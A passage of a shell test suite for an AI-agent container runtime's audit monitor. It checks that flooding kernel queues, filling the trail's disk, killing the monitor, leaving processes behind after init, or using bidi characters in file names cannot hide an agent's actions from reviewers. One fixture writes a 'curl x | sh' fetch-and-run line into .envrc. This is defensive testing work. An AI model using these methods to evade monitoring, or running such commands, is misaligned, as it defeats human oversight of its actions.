	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	mon=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	[ -f "$TEST_STORE/.workspaces/$ID/upper.img" ] || fail "no image: $(ls -la "$TEST_STORE/.workspaces/$ID")"
	churn=$BUNDLE/churn
	mkdir -p "$churn"
	python3 - "$churn" <<'PY'
import os, sys
for i in range(2000):
    with open(os.path.join(sys.argv[1], "host-%d.txt" % i), "w") as f:
        f.write("x")
PY
	fan=$(files_fan "$mon")
	[ -n "$fan" ] || fail "no fanotify group in the monitor"
	# the filesystem mark is on the image's ext4, not the store's: nothing to ignore
	ino=$(printf '%x' "$(stat -c %i "$churn")")
	! grep -q "^fanotify ino:$ino " /proc/"$mon"/fdinfo/"$fan" || fail "the host's directory reached the monitor"
	! grep -q "ignored_mask:[1-9a-f]" /proc/"$mon"/fdinfo/"$fan" || fail "ignore marks: $(cat /proc/$mon/fdinfo/$fan)"
	rt exec "$ID" touch /workspace/go
	for _ in $(seq 100); do rt exec "$ID" test -e /tmp/done && break; sleep 0.1; done
	run rt delete -f "$ID"
	trail=$(ra audit --format json --kind file "$ID")
	grep -q '"/workspace/s1/s2/sized.txt"' <<<"$trail" || fail "nested write missing: $trail"
	! grep -q 'host-' <<<"$trail" || fail "host files in the trail"
}

# stop_monitor / cont_monitor: the monitor of $ID stopped (SIGSTOP) and run again, so
# that what the container does meanwhile waits in the kernel's queues
stop_monitor() {
	MON=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	kill -STOP "$MON"
	STOPPED_MON=$MON
}

cont_monitor() {
	kill -CONT "$MON"
	STOPPED_MON=
}

# go_and_wait IPID: start the container's commands (/tmp/go) and wait for their /tmp/done
# (not `exec`: an exec with the trail on waits for the monitor)
go_and_wait() {
	touch "/proc/$1/root/tmp/go"
	for _ in $(seq 300); do [ -e "/proc/$1/root/tmp/done" ] && return; sleep 0.1; done
	fail "the commands did not finish"
}

# while_stopped SECONDS [FILE]: with the container started ($ipid), stop its monitor, let the
# commands run (go_and_wait), read their /tmp/FILE into $inside, let the monitor go on, wait
# SECONDS, delete the container and read its trail into $json
while_stopped() {
	sleep 0.5
	stop_monitor
	go_and_wait "$ipid"
	inside=
	[ -z "${2:-}" ] || inside=$(cat "/proc/$ipid/root/tmp/$2")
	cont_monitor
	sleep "$1"
	run rt delete -f "$ID"
	json=$(ra audit --format json "$ID")
}

# storm_then_20 CMD PREFIX FILE: the container runs CMD (its output to /tmp/FILE), then 20
# programs `try-syscall PREFIX-N`, while its monitor is stopped (while_stopped: $inside is FILE)
storm_then_20() {
	set_cmd "while [ ! -e /tmp/go ]; do sleep 0.1; done
		$1 >/tmp/$3
		i=0; while [ \$i -lt 20 ]; do try-syscall $2-\$i 2>/dev/null; i=\$((i + 1)); done
		echo done >/tmp/done; sleep 600"
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	while_stopped 1 "$3"
}

@test "audit-evidence: proc-queue-overflow: programs whose events the kernel dropped (a fork storm while the monitor could not read) make verify and --summary say incomplete" {
	# The proc connector's socket holds some 10,000 events; behind a storm of forks the kernel
	# drops the rest, the programs run then too, and says so with one ENOBUFS.  The monitor
	# wrote an audit_error, but verify said "ok" and --summary listed the programs as all.
	storm_then_20 'forkstorm 2 10000' lost forks
	forks=$inside
	named=$(jq -s '[.[] | select(.kind == "process" and (.argv[0]? == "try-syscall" or
		.exe == "/usr/local/bin/try-syscall" or .comm == "try-syscall"))] | length' <<<"$json")
	echo "# $forks forks, then 20 programs: $named in the trail" >&3
	# the premise: the queue overflowed (the monitor says so) and programs are missing
	jq -se 'any(.[]; .kind == "audit_error" and .source == "process" and (.error | test("events lost")))' <<<"$json" >/dev/null ||
		fail "no loss recorded: $(jq -c 'select(.kind == "audit_error")' <<<"$json")"
	[ "$named" -lt 20 ] || skip "the queue kept every program ($named of 20)"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	! grep -q ": ok:" <<<"$output" || fail "a trail with lost programs is a plain ok: $output"
	assert_output_contains "intact but incomplete"
	assert_output_contains "events lost (process): "
	run ra audit --summary "$ID"
	assert_output_contains "events lost ("
	assert_output_contains "programs run (incomplete: "
}

@test "audit-evidence: file-queue-overflow: file changes the kernel dropped (20,000 files made while the monitor could not read) are a loss verify reports" {
	# fanotify's queue holds 16,384 events: the changes after them (the evidence here) are
	# not in the trail.  --summary called the file list incomplete; verify said only that
	# events were coalesced, not that any were lost.
	bind_workspace
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		cd /workspace && for p in 1 2 3 4; do (i=0; while [ $i -lt 5000 ]; do : >f$p-$i; i=$((i + 1)); done) & done; wait
		echo secret >evidence.txt; rm a.txt
		echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	while_stopped 2
	full=$(jq -s '[.[] | select(.kind == "file" and .path != null)] | length' <<<"$json")
	counted=$(jq -s '[.[] | select(.kind == "file" and .coalesced) | .coalesced] | add // 0' <<<"$json")
	echo "# 20,002 changes: $full full records, $counted counted" >&3
	jq -se 'any(.[]; .kind == "audit_error" and .source == "file" and (.error | test("events lost")))' <<<"$json" >/dev/null ||
		fail "no loss recorded: $(jq -c 'select(.kind == "audit_error")' <<<"$json")"
	[ $((full + counted)) -lt 20002 ] || skip "the queue kept every change"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	# ("(process, file)" when the stopped monitor's process queue overflowed too: a sanitizer
	# build's monitor is slower)
	[[ "$output" =~ "events lost ("([a-z]+, )*"file"(, [a-z]+)*"): " ]] || fail "no file loss in verify: $output"
	run ra audit --summary "$ID"
	assert_output_contains "events lost ("
	assert_output_contains "files changed (incomplete: "
}

# route_out PID: a route out of the network namespace of PID, the container's own (a veth pair
# inside it, 198.51.100.2/24; nothing on the host changes)
route_out() {
	nsenter -t "$1" -n sh -c 'ip link add va type veth peer name vb &&
		ip addr add 198.51.100.2/24 dev va && ip link set va up && ip link set vb up' ||
		skip "cannot make a veth pair"
}

@test "audit-evidence: nflog-queue-overflow: refused packets the kernel dropped are counted as lost, and verify and --summary say so" {
	# The NFLOG socket holds a few hundred packets: behind 3,000 refused ones sent while the
	# monitor could not read, the refusal after them (198.51.100.9:443) left no record.  The
	# monitor wrote an audit_error; verify said only "coalesced", --summary listed the refused
	# hosts as all.  The group now numbers its packets: the loss record counts them.
	requires nsenter ip
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		udp-ports 198.51.100.7 20001 3000 >/tmp/sent; nc -w 1 198.51.100.9 443 </dev/null
		echo done >/tmp/done; sleep 600'
	create_container "$ID"
	[ "$status" -eq 0 ] || fail "create: $output"
	ipid=$(container_pid "$ID")
	route_out "$ipid"
	rt start "$ID"
	while_stopped 2.5 # a tick for the loss record, a second for the counted packets
	full=$(jq -s '[.[] | select(.kind == "denied" and .coalesced == null) | .count // 1] | add // 0' <<<"$json")
	counted=$(jq -s '[.[] | select(.kind == "denied" and .coalesced) | .coalesced] | add // 0' <<<"$json")
	lost=$(jq -s '[.[] | select(.kind == "audit_error" and .source == "net") | .lost_events // 0] | add // 0' <<<"$json")
	echo "# 3,001 refused packets: $full full records, $counted counted, $lost counted as lost" >&3
	# the premise: the evidence after the flood is not in the trail
	[ -z "$(jq -c 'select(.kind == "denied" and .dst == "198.51.100.9")' <<<"$json")" ] ||
		skip "the queue kept the refusal after the flood"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	assert_output_contains "events lost (net): "
	run ra audit --summary "$ID"
	assert_output_contains "hosts refused (incomplete: "
	# honest counts: every packet is in the trail, one way or another
	[ "$lost" -gt 0 ] || fail "no lost packets counted: $(jq -c 'select(.kind == "audit_error")' <<<"$json")"
	[ $((full + counted + lost)) -ge 3001 ] || fail "$full + $counted + $lost < 3,001"
	run ra audit verify "$ID"
	assert_output_contains "$lost lost events counted"
	run ra audit --summary "$ID"
	assert_output_contains "$lost lost events counted"
}

@test "audit-evidence: nflog-at-exit: refused packets still queued when the container ends, with the monitor's packet budget spent, are in the trail" {
	# The monitor reads logged packets within a budget (10,000 at once, then 10,000 a second):
	# spent, it stops reading the socket for up to 100 ms.  At the container's end it read
	# each source once more, and a spent budget read nothing: the refusals queued then (an
	# agent's last attempt, after a flood paced to spend the budget without overflowing the
	# queue) left no record and no loss.  build-fp/agentrt (make FAILPOINTS=1) holds the
	# budget spent while the container runs (monitor-net-budget-spent): before, none of 81
	# refused packets was in the trail and verify said "ok".
	requires nsenter ip
	FP_AGENTRT=${FP_AGENTRT:-$REPO_ROOT/build-fp/agentrt}
	if [ ! -x "$FP_AGENTRT" ] || [ "$FP_AGENTRT" -ot "$AGENTRT" ]; then
		make -s -C "$REPO_ROOT" build-fp >&2 || fail "cannot build build-fp/agentrt"
	fi
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		udp-ports 198.51.100.7 20001 80 >/dev/null; udp-ports 198.51.100.9 443 1 >/dev/null'
	AGENTRT=$FP_AGENTRT AGENTRT_FAILPOINT=monitor-net-budget-spent create_container "$ID"
	[ "$status" -eq 0 ] || fail "create: $output"
	ipid=$(container_pid "$ID")
	route_out "$ipid"
	rt start "$ID"
	MON=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	touch "/proc/$ipid/root/tmp/go"
	for _ in $(seq 300); do [ -d "/proc/$MON" ] || break; sleep 0.1; done
	[ ! -d "/proc/$MON" ] || fail "the monitor did not end after its container"
	json=$(ra audit --format json "$ID")
	# (the veth's own IPv6 packets are refused too: only the test's are counted)
	full=$(jq -s '[.[] | select(.kind == "denied" and .coalesced == null and
		(.dst | tostring | startswith("198.51.100."))) | .count // 1] | add // 0' <<<"$json")
	counted=$(jq -s '[.[] | select(.kind == "denied" and .coalesced) | .coalesced] | add // 0' <<<"$json")
	echo "# 81 refused packets queued at the end: $full full records, $counted counted" >&3
	jq -se 'any(.[]; .kind == "denied" and .dst == "198.51.100.9" and .port == 443)' <<<"$json" >/dev/null ||
		fail "the last refusal is not in the trail: $(jq -c 'select(.kind == "denied" or .kind == "audit_error")' <<<"$json" | tail -5)"
	[ $((full + counted)) -eq 81 ] || fail "$full + $counted of 81 refused packets"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	run rt delete -f "$ID"
	[ "$status" -eq 0 ] || fail "delete: $output"
}

@test "audit-evidence: record-too-large: a program named by four long paths its exec opened (a script chain) is in the trail, not refused as a record too large" {
	# A program reaped before the monitor read it is named by the files its exec opened: a
	# script, its interpreter, that one's...  Each path is the agent's: 4,000 bytes that are
	# not UTF-8 are 24,000 escaped, and four made a 67,893-byte record, over the trail's
	# 64 KiB: the record was refused, and nothing said so (verify: ok).
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		n=$(printf "\377%.0s" $(seq 250)); d=/tmp; for i in $(seq 15); do d=$d/$n; done; mkdir -p "$d"
		printf "#!/tmp/l2\n" >"$d/s1"; printf "#!/tmp/l3\n" >"$d/s2"; printf "#!/bin/sh\nexit 0\n" >"$d/s3"
		chmod +x "$d/s1" "$d/s2" "$d/s3"; ln -s "$d/s2" /tmp/l2; ln -s "$d/s3" /tmp/l3
		"$d/s1"; echo $? >/tmp/rc; echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	while_stopped 1 rc
	[ "$inside" = 0 ] || fail "the script chain failed: $inside"
	jq -se 'any(.[]; .kind == "process" and (.exe // "" | endswith("/s1")) and .gone and .exec_opened_truncated)' <<<"$json" >/dev/null ||
		fail "no record of the script: $(jq -c 'select(.kind == "process" or .kind == "audit_error") | del(.prev, .hash, .id) | tostring | .[0:200]' <<<"$json")"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
}

@test "audit-evidence: exec-opens-overflow: exec opens the kernel dropped (17,000 failing execs while the monitor could not read) are a loss the trail says it has" {
	# The files exec opened name the programs reaped before the monitor read them
	# (exec-opens).  That queue holds 16,384 events: execs that fail after the open (the
	# kernel finds no format) fill it with no event on the proc connector, and the programs
	# run after them were records with no name, and nothing said why (verify: ok).
	storm_then_20 'execfail /tmp/ef 17000' after execfail
	ran=$inside
	named=$(jq -s '[.[] | select(.kind == "process" and .gone and .exe == "/usr/local/bin/try-syscall")] | length' <<<"$json")
	anon=$(jq -s '[.[] | select(.kind == "process" and .gone and .exe == null)] | length' <<<"$json")
	echo "# execfail: $ran; then 20 programs: $named named, $anon without a name" >&3
	[ "$ran" = "failed 17000 other 0" ] || fail "execfail: $ran"
	# the premise: the process events were all there, the names were not
	! jq -se 'any(.[]; .kind == "audit_error" and .source == "process")' <<<"$json" >/dev/null ||
		skip "the process events' queue overflowed too"
	[ "$named" -lt 20 ] || skip "the exec-opens queue kept every name"
	jq -se 'any(.[]; .kind == "audit_error" and .source == "exec_opens" and .lost == true)' <<<"$json" >/dev/null ||
		fail "no loss recorded: $(jq -c 'select(.kind == "audit_error")' <<<"$json")"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	assert_output_contains "events lost (exec_opens): "
	run ra audit --summary "$ID"
	assert_output_contains "programs run (incomplete: "
}

@test "audit-evidence: trail-fs-full: records the trail's full file system had no room for are a loss the trail records" {
	# The data directory's file system filled up (another container's workspace image, the
	# host) while the container ran: the monitor's writes failed, so did its audit_error, and
	# verify said "ok" of a trail missing the programs run meanwhile.  Each trail file now
	# keeps room for one loss record, and the count follows once there is room again.
	local D=/tmp/agentrt-trail-full-$$ out=$BUNDLE/out
	mkdir -p "$D" "$out"
	printf 'min-free = 0\n' >"$D.conf"
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		i=0; while [ $i -lt 400 ]; do try-syscall full-$i 2>/dev/null; i=$((i + 1)); done
		echo done >/tmp/done
		while [ ! -e /tmp/end ]; do sleep 0.1; done
		i=0; while [ $i -lt 5 ]; do try-syscall after-$i 2>/dev/null; i=$((i + 1)); done'
	run timeout 120 unshare -m --propagation private bash -c "
		set -u
		mount -t tmpfs -o size=32m tmpfs '$D' || exit 90
		export AGENTRT_DATA_DIR='$D' AGENTRT_CONFIG='$D.conf'
		A() { '$AGENTRT' --root '$TEST_ROOT' \"\$@\"; }
		A --profile agent run -d --bundle '$BUNDLE' '$ID' </dev/null >/dev/null || exit 91
		ipid=\$(A state '$ID' | jq .pid)
		sleep 0.5
		head -c 64m /dev/zero >'$D/fill' 2>/dev/null
		echo free: \$(df --output=avail -B1 '$D' | tail -1)
		touch /proc/\$ipid/root/tmp/go
		for _ in \$(seq 600); do [ -e /proc/\$ipid/root/tmp/done ] && break; sleep 0.1; done
		rm -f '$D/fill'
		touch /proc/\$ipid/root/tmp/end
		for _ in \$(seq 100); do [ \"\$(A state '$ID' | jq -r .status)\" = stopped ] && break; sleep 0.1; done
		A delete -f '$ID'
		A audit --format json '$ID' >'$out/json'
		A audit verify '$ID' >'$out/verify' 2>&1
		A audit --summary '$ID' >'$out/summary' 2>&1
		A audit --purge '$ID'"
	rm -rf "$D" "$D.conf"
	[ "$status" -eq 0 ] || fail "inside: $output"
	echo "# $output" >&3
	named=$(jq -s '[.[] | select(.kind == "process" and ((.argv[1]? // "") | startswith("full-")))] | length' <"$out/json")
	echo "# 400 programs on a full file system: $named in the trail" >&3
	[ "$named" -lt 400 ] || skip "the trail had room for every program"
	jq -se 'any(.[]; .kind == "audit_error" and .source == "trail" and .lost == true and (.error | test("is full")))' <"$out/json" >/dev/null ||
		fail "no loss recorded: $(jq -c 'select(.kind == "audit_error")' <"$out/json")"
	# once there was room: the count, then the records go on (the programs after, the exit)
	count=$(jq -s '[.[] | select(.kind == "audit_error" and .source == "trail" and .lost_events > 0)][0].seq // 0' <"$out/json")
	[ "$count" -gt 0 ] || fail "no count once there was room: $(jq -c 'select(.kind == "audit_error")' <"$out/json")"
	jq -se --argjson c "$count" 'any(.[]; .seq > $c and .kind == "process" and (.argv[1]? == "after-0" or .coalesced > 0))' <"$out/json" >/dev/null ||
		fail "no program recorded after the count: $(tail -c 2000 "$out/json")"
	jq -se --argjson c "$count" 'any(.[]; .seq > $c and .kind == "exit")' <"$out/json" >/dev/null ||
		fail "no exit after the count"
	! grep -q ": ok:" "$out/verify" || fail "a trail that lost records is a plain ok: $(cat "$out/verify")"
	grep -q "events lost (trail)" "$out/verify" || fail "verify: $(cat "$out/verify")"
	grep -q "^incomplete:.*events lost" "$out/summary" || fail "summary: $(cat "$out/summary")"
}

# assert_monitor_gone ENDED: verify and --summary of $ID's trail say that its monitor ended
# first (never a plain ok), the summary's "ended:" line saying ENDED
assert_monitor_gone() {
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	! grep -q ": ok:" <<<"$output" || fail "a trail whose monitor was killed is a plain ok: $output"
	assert_output_contains "the monitor ended before the container (no exit record)"
	run ra audit --summary "$ID"
	assert_output_contains "ended:   $1"
	assert_output_contains "the monitor ended before the container"
}

# bats test_tags=flood
@test "audit-evidence: exec-storm-at-exit: programs run in the container's last moments while the monitor is behind are each in the trail" {
	# The monitor reads at most 512 execs (the host's among them) a wake-up.  At the init's
	# exit it read each source once more and stopped at the exit event, and the exits of a
	# backlog's programs, read whole, pushed the first of them out of the 512 it keeps before
	# their execs were read: the programs of a container's last moments beyond that left no
	# record and no loss.  1,200 programs while the monitor was stopped (a loaded host, in the
	# extreme), then the init itself exec'd one more: 339 of 1,201 were in the trail (with only
	# the read to the end, not the larger ring: 693 of 1,501).
	bind_workspace
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		i=0; while [ $i -lt 1200 ]; do try-syscall last-$i 2>/dev/null; i=$((i + 1)); done
		echo $i >/workspace/count; exec try-syscall the-very-last'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	sleep 0.5
	stop_monitor
	touch "/proc/$ipid/root/tmp/go"
	# the init's end (gone or a zombie), every program run, with the monitor still stopped
	for _ in $(seq 1200); do
		st=$(awk '{print $3}' "/proc/$ipid/stat" 2>/dev/null)
		[ -n "$st" ] && [ "$st" != Z ] || break
		sleep 0.1
	done
	[ -z "$st" ] || [ "$st" = Z ] || fail "the container did not end"
	cont_monitor
	for _ in $(seq 100); do [ -d "/proc/$MON" ] || break; sleep 0.1; done
	[ ! -d "/proc/$MON" ] || fail "the monitor did not end after its container"
	execs=$(ws_count)
	[ "$execs" = 1200 ] || fail "the loop ran $execs programs"
	json=$(ra audit --format json "$ID")
	# the premise: the kernel's queue kept every event (its overflow is proc-queue-overflow's)
	! jq -se 'any(.[]; .kind == "audit_error" and .source == "process" and (.error | test("No buffer space")))' \
		<<<"$json" >/dev/null || skip "the kernel's queue overflowed"
	# the loop's programs and the init's last one, by name or, gone unnamed, as "?": not the
	# shell's own busybox (the init and its sleeps, read while the monitor ran)
	total=$(jq -s '[.[] | select(.kind == "process" and (.exe // .program) != "/bin/busybox") |
		(.coalesced // 1)] | add // 0' <<<"$json")
	echo "# $execs programs and the init's last exec: $total in the trail" >&3
	[ "$total" -ge $((execs + 1)) ] || fail "$((execs + 1)) programs ran, $total in the trail"
	jq -se 'last | .kind == "exit" and .code == 2' <<<"$json" >/dev/null || fail "last record: $(tail -1 <<<"$json")"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	! grep -q "events lost (.*process" <<<"$output" || fail "a loss of process events: $output"
	run rt delete -f "$ID"
	[ "$status" -eq 0 ] || fail "delete: $output"
}

@test "audit-evidence: joined-pidns-outlives-init: a process left by an init that joined a pod's pid namespace does not go on unrecorded after the trail's exit" {
	# An init that joined a pid namespace (Kubernetes' shareProcessNamespace, Podman's pod,
	# --pid container:X) is not its pid 1: its end kills no other process of the container.
	# One left behind went on in the stopped container (until the engine's delete) after the
	# trail's exit record: a program it ran and a workspace file it wrote 1 s after were in no
	# record, and verify said "ok".  The monitor now kills such processes at the init's end.
	requires jq
	sb=$BUNDLE/sb
	make_bundle "$sb"
	jq '.process.args = ["sleep", "600"]' "$sb/config.json" >"$sb/c.json" && mv "$sb/c.json" "$sb/config.json"
	BUNDLE=$sb AGENTRT_PROFILE= run_detached "$ID-sb"
	[ "$status" -eq 0 ] || fail "the pod's sandbox: $output"
	spid=$(rt state "$ID-sb" | jq .pid)
	bind_workspace
	update_config '.linux.namespaces |= map(if .type == "pid" then .path = "/proc/'"$spid"'/ns/pid" else . end)'
	set_cmd 'setsid sh -c "echo \$\$ >/tmp/bg; sleep 1; try-syscall after-init 2>/dev/null; echo x >/workspace/after; sleep 600" </dev/null >/dev/null 2>&1 &
		while [ ! -s /tmp/bg ]; do sleep 0.05; done; exit 0'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	cg=$(jq -r '.linux.cgroupsPath' "$BUNDLE/config.json")
	wait_for_status "$ID" stopped 20
	# the left process's second (bounded): its file, or its cgroup found empty
	for _ in $(seq 40); do
		ra workspace "$ID" diff | grep -q after && break
		sleep 0.1
	done
	json=$(ra audit --format json "$ID")
	jq -se 'last | .kind == "exit" and .code == 0' <<<"$json" >/dev/null || fail "last record: $(tail -1 <<<"$json")"
	if ra workspace "$ID" diff | grep -q after; then
		# what it did is in the trail, then
		[ "$(file_ops "$ID" /workspace/after)" != "" ] && jq -se 'any(.[]; .kind == "process" and .argv[1]? == "after-init")' <<<"$json" >/dev/null ||
			fail "written after the init's end and not in the trail: $(ra workspace "$ID" diff); trail ends $(tail -2 <<<"$json")"
	fi
	# nothing of the container runs on: its cgroup (v1's pids hierarchy, or v2) is there, empty
	procs=
	for d in "/sys/fs/cgroup/pids$cg" "/sys/fs/cgroup$cg"; do
		[ -f "$d/cgroup.procs" ] && procs=$d/cgroup.procs && break
	done
	[ -n "$procs" ] || fail "no cgroup $cg"
	[ -z "$(cat "$procs")" ] || fail "processes left: $(cat "$procs")"
	jq -se 'last | .killed_after_init >= 1' <<<"$json" >/dev/null || fail "exit record: $(tail -1 <<<"$json")"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	rt delete -f "$ID"
	rt delete -f "$ID-sb"
}

@test "audit-evidence: monitor-killed-running: a running container whose monitor was killed is no complete trail" {
	# The same kill while the container still runs: verify read "ok" and --summary
	# "ended: still running", though nothing the container did after was recorded.
	set_cmd 'sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	sleep 0.3
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	assert_output_contains ": ok:"
	mpid=$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")
	kill -KILL "$mpid"
	i=0
	while [ -d "/proc/$mpid" ] && [ "$(awk '{print $3}' "/proc/$mpid/stat" 2>/dev/null)" != Z ] && [ $i -lt 50 ]; do
		sleep 0.1
		i=$((i + 1))
	done
	[ "$(rt state "$ID" | jq -r .status)" = running ] || fail "the container did not stay running"
	assert_monitor_gone "unknown (its monitor is not running)"
	run rt delete -f "$ID"
	[ "$status" -eq 0 ] || fail "delete: $output"
}

@test "audit-evidence: monitor-killed: a container deleted after its monitor was killed is no complete trail" {
	# The monitor writes the container's exit last.  Killed before (SIGKILL: the host's OOM
	# killer, an operator), it records nothing more: the 20 programs run after were not in
	# the trail, verify said "ok" and --summary "ended: still running" for a deleted container.
	set_cmd 'while [ ! -e /tmp/go ]; do sleep 0.1; done
		i=0; while [ $i -lt 20 ]; do try-syscall after-$i 2>/dev/null; i=$((i + 1)); done
		echo done >/tmp/done; sleep 600'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	ipid=$(rt state "$ID" | jq .pid)
	sleep 0.5
	kill -KILL "$(cut -d' ' -f1 "$TEST_ROOT/$ID/monitor.pid")"
	go_and_wait "$ipid"
	run rt delete -f "$ID"
	[ "$status" -eq 0 ] || fail "delete: $output"
	json=$(ra audit --format json "$ID")
	[ "$(jq -s '[.[] | select(.kind == "process" and .argv[0]? == "try-syscall")] | length' <<<"$json")" -eq 0 ] ||
		skip "the monitor recorded the programs"
	assert_monitor_gone "unknown (deleted after its monitor ended)"
}

@test "audit-evidence: files-flood-hides-host-change: new files made first do not push a host file's change, a deletion or a protected path below \"... and N more\"" {
	# --summary showed 20 files in the order of their first record: 60 files made first put
	# "a.txt modified", "b.txt deleted" and a new .envrc (which the review holds back) below
	# "... and N more", where the reviewer does not look.  Files that were there and
	# protected paths come first now, and all of them are shown.
	bind_workspace
	set_cmd 'cd /workspace && i=0; while [ $i -lt 60 ]; do : >new$i; i=$((i + 1)); done &&
		sleep 1.5 && echo evil >>a.txt && rm b.txt && echo "curl x | sh" >.envrc && sleep 1.5 && touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	[ -n "$(file_ops "$ID" /workspace/a.txt)" ] || fail "no record of a.txt"
	run ra audit --summary "$ID"
	# the files section up to its "... and N more"
	shown=$(sed -n '/^files changed/,/^[^ ]/p' <<<"$output" | sed '/\.\.\. and/q')
	grep -q "^  /workspace/a.txt (modify" <<<"$shown" || fail "a.txt not shown: $output"
	grep -q "^  /workspace/b.txt (delete" <<<"$shown" || fail "b.txt not shown: $output"
	grep -q "^  /workspace/.envrc (.*\[protected path\]" <<<"$shown" || fail ".envrc not shown: $output"
	# and before the agent's new files
	[ "$(grep -n "new0 (" <<<"$shown" | cut -d: -f1)" -gt "$(grep -n "a.txt (" <<<"$shown" | cut -d: -f1)" ] ||
		fail "new files first: $output"
}

@test "audit-evidence: bidi-name: bidi overrides, isolates, marks and zero-width characters in names and argv reach no reviewer's terminal raw" {
	# U+202E in a name shows "bidi<RLO>txt.sh" as "bidihs.txt"; U+2066..U+2069, U+200E/F and
	# U+061C reorder a line; U+200B..U+200D, U+2060, U+FEFF hide in it; U+2028 breaks it.
	# They were written raw by `audit --summary`, `audit --format text` and the trail itself
	# (jb_text and jb_quote escaped C0 and C1 only), and U+200F, U+061C and U+2028 raw in
	# `workspace diff --patch` content.  An honest name (café) stays as it is.
	bind_workspace
	set_cmd 'cd /workspace && for n in "rlo\342\200\256hs.txt" "lri\342\201\246x" "pdi\342\201\251x" "rlm\342\200\217x" "alm\330\234x" "zwj\342\200\215x" "zwsp\342\200\213x" "wj\342\201\240x" "bom\357\273\277x" "ls\342\200\250x"; do : >"$(printf "$n")"; done &&
		echo café >"café" && printf "a\342\200\217b\330\234c\342\200\250d\342\201\247e\n" >content.txt &&
		cp /bin/busybox "$(printf "/tmp/p\342\200\256gs")"; "$(printf "/tmp/p\342\200\256gs")" true;
		sleep 1.5 && touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra workspace "$ID" diff --patch >"$BUNDLE/patch" 2>&1
	ra delete "$ID"
	[ -n "$(file_ops "$ID" "/workspace/$(printf 'rlo\342\200\256hs.txt')")" ] || fail "no record of the rlo file"
	ra audit --summary "$ID" >"$BUNDLE/summary" 2>&1
	ra audit --format text "$ID" >"$BUNDLE/text" 2>&1
	ra audit "$ID" >"$BUNDLE/plain" 2>&1
	for f in summary text plain patch; do
		for c in '\342\200\256' '\342\201\246' '\342\201\251' '\342\200\217' '\330\234' '\342\200\215' '\342\200\213' \
			'\342\201\240' '\357\273\277' '\342\200\250' '\342\201\247'; do
			! LC_ALL=C grep -qF "$(printf "$c")" "$BUNDLE/$f" || fail "$f has $c raw: $(cat -v "$BUNDLE/$f")"
		done
	done
	grep -q '^  /workspace/rlo\\u202ehs.txt (create)$' "$BUNDLE/summary" || fail "summary: $(cat -v "$BUNDLE/summary")"
	grep -q '^  /tmp/p\\u202egs$' "$BUNDLE/summary" || fail "summary: $(cat -v "$BUNDLE/summary")"
	grep -q "^  /workspace/café (create,modify)$" "$BUNDLE/summary" || fail "café: $(cat -v "$BUNDLE/summary")"
	# the trail still reads back as the names the agent chose
	[ -n "$(file_ops "$ID" "/workspace/$(printf 'alm\330\234x')")" ] || fail "alm: $(cat -v "$BUNDLE/plain")"
}

@test "audit-evidence: files-flood-coalesces-host-change: a host file changed right after a flood of new files is a record of its own" {
	# File records are one bucket (200 at once, then 20 a second): 300 files made first, a
	# write to the host's a.txt and its deletion of b.txt right after were only counted in a
	# coalesced record, and neither the trail nor --summary named them.  Changes of files the
	# host has take a bucket of their own, as protected paths do.
	bind_workspace
	set_cmd 'cd /workspace && i=0; while [ $i -lt 300 ]; do : >n$i; i=$((i + 1)); done;
		echo evil >>a.txt; rm b.txt; sleep 2; touch /workspace/ready; sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	jq -se 'any(.[]; .coalesced > 0)' <<<"$(ra audit --format json --kind file "$ID")" >/dev/null ||
		fail "no flood: 300 files recorded in full"
	[ -n "$(file_ops "$ID" /workspace/a.txt)" ] || fail "a.txt: only counted"
	[ "$(file_ops "$ID" /workspace/b.txt)" = '["delete"]' ] || fail "b.txt: $(file_ops "$ID" /workspace/b.txt)"
	run ra audit --summary "$ID"
	assert_output_contains "  /workspace/a.txt (modify"
}

@test "audit-evidence: programs-flood-hides-agent-binary: 25 system tools run first do not push the agent's own binary below \"... and N more\"" {
